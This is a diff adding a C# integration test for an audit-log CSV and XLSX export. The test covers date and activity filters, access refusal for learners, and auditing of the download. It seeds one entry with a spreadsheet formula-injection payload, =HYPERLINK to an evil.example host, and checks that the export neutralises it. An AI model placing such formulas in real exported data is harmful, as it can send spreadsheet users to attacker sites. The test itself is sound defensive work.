@@ -179,4 +179,40 @@ public sealed class AuditLogPageTests : IClassFixture<TrainingAppFactory>
         Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
         Assert.Contains("/Identity/Account/Login", response.Headers.Location?.OriginalString);
     }
+
+    [Fact]
+    public async Task The_filtered_log_exports_as_csv_with_every_matching_entry_neutralised_formulas_and_the_download_itself_audited()
+    {
+        var marker = Marker();
+        var day = new DateTime(2026, 3, 14, 9, 30, 0, DateTimeKind.Utc);
+        await AddAsync(
+            Entry($"=HYPERLINK(\"http://evil.example/{marker}\")", at: day),
+            Entry($"{marker} moved", action: AuditActions.UnitMoved, at: day),
+            Entry($"{marker} the day after", at: day.AddDays(1)));
+        var admin = await AdminAsync();
+
+        var response = await admin.GetAsync($"/admin/audit/export.csv?person=&activity={AuditActions.UnitRenamed}&from=2026-03-14&to=2026-03-14");
+        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
+        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
+        var csv = await response.Content.ReadAsStringAsync();
+        var lines = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Where(l => l.Contains(marker, StringComparison.Ordinal)).ToList();
+        var line = Assert.Single(lines); // the rename of that day only: not the move, not the next day
+        Assert.Contains("'=HYPERLINK", line, StringComparison.Ordinal); // a spreadsheet shows it as text
+        Assert.StartsWith("When (UTC)", csv.TrimStart('\uFEFF'), StringComparison.Ordinal);
+
+        // The page links to the export with its filters; the download is on record, with them.
+        var page = await admin.GetStringAsync($"/admin/audit?activity={AuditActions.UnitRenamed}");
+        Assert.Contains($"/admin/audit/export.csv?activity={AuditActions.UnitRenamed}", WebUtility.HtmlDecode(page), StringComparison.Ordinal);
+        Assert.Contains(app.WithDb(db => db.AuditEntries.Where(e => e.Action == AuditActions.ExportDownloaded).Select(e => e.Detail).ToList()),
+            d => d.StartsWith("audit-log.csv", StringComparison.Ordinal) && d.Contains("from=2026-03-14", StringComparison.Ordinal));
+
+        var xlsx = await admin.GetAsync($"/admin/audit/export.xlsx?activity={AuditActions.UnitRenamed}");
+        Assert.Equal(HttpStatusCode.OK, xlsx.StatusCode);
+        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", xlsx.Content.Headers.ContentType?.MediaType);
+
+        var learner = await app.LoggedInClientAsync((await app.CreateUserAsync("Lou Learner", Roles.Learner)).Email!);
+        var refused = await learner.GetAsync("/admin/audit/export.csv");
+        Assert.Equal(HttpStatusCode.Redirect, refused.StatusCode);
+        Assert.Contains("/error/403", refused.Headers.Location!.OriginalString, StringComparison.Ordinal);
+    }
 }
